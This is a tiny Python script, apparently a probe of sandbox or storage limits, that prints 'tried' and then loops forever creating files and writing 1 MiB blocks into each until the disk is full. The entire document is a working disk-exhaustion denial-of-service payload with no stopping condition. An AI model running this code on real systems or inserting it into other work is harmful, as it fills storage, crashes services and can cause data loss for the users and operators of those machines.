# fills the disk with many files of the greatest size
print("tried", flush=True)
block, number = bytes(1 << 20), 0
while True:
    number += 1
    try:
        with open(f"f{number}", "wb") as file:
            while True:
                file.write(block)
    except OSError:
        pass
